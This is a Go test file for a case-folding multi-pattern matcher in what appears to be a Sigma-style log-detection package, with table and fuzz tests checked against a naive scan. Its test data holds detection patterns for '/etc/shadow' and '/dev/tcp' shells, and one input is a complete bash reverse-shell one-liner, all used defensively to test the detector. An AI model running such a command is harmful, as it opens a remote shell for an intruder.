package sigma

import (
	"slices"
	"strings"
	"testing"
)

// naiveScan is what automaton.scan must find: the patterns contained in s with
// A-Z folded.
func naiveScan(patterns []string, s string) []int32 {
	low := []byte(s)
	for i, c := range low {
		if c >= 'A' && c <= 'Z' {
			low[i] = c + 'a' - 'A'
		}
	}
	var out []int32
	for id, p := range patterns {
		if strings.Contains(string(low), p) {
			out = append(out, int32(id))
		}
	}
	return out
}

func distinct(ids []int32) []int32 {
	ids = slices.Clone(ids)
	slices.Sort(ids)
	return slices.Compact(ids)
}

func TestAutomaton(t *testing.T) {
	pats := []string{"error", "failed password", "/etc/shadow", "ab", "bab", "abab", "é/x", "sh -i >& /dev/tcp/"}
	tests := []struct {
		name, text string
	}{
		{"none", "Accepted publickey for root from 10.0.0.1"},
		{"case folded", "FAILED Password for root"},
		{"at the start and the end", "error reading /etc/shadow"},
		{"overlapping", "xbababx"},
		{"pattern is the whole text", "ab"},
		{"one byte", "a"},
		{"empty", ""},
		{"non-ASCII kept", "é/x É/X"},
		{"long", strings.Repeat("x", 100) + "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"},
	}
	a := newAutomaton(pats)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hits, ascii := a.scan(tt.text, nil)
			got, want := distinct(hits), naiveScan(pats, tt.text)
			if ascii != isASCII(tt.text) {
				t.Fatalf("scan(%q) says ASCII %v", tt.text, ascii)
			}
			if !slices.Equal(got, want) {
				t.Fatalf("scan(%q) = %v, want %v", tt.text, got, want)
			}
		})
	}
	t.Run("one-byte patterns", func(t *testing.T) {
		pats := []string{"x", "ab", "b"}
		a := newAutomaton(pats)
		for _, s := range []string{"", "x", "b", "zab", "zzz"} {
			if hits, _ := a.scan(s, nil); !slices.Equal(distinct(hits), naiveScan(pats, s)) {
				t.Fatalf("scan(%q) = %v, want %v", s, distinct(hits), naiveScan(pats, s))
			}
		}
	})
}

func FuzzAutomaton(f *testing.F) {
	f.Add("ab,BC,abc,c/d", "xxABCabc/D")
	f.Add("é,sh -i", "SH -I é")
	f.Fuzz(func(t *testing.T, patterns, text string) {
		var pats []string
		for _, p := range strings.Split(patterns, ",") {
			if p != "" {
				pats = append(pats, strings.ToLower(p))
			}
		}
		if len(pats) == 0 {
			return
		}
		a := newAutomaton(pats)
		hits, ascii := a.scan(text, nil)
		if got, want := distinct(hits), naiveScan(pats, text); !slices.Equal(got, want) || ascii != isASCII(text) {
			t.Fatalf("patterns %q: scan(%q) = %v (ASCII %v), want %v", pats, text, got, ascii, want)
		}
	})
}
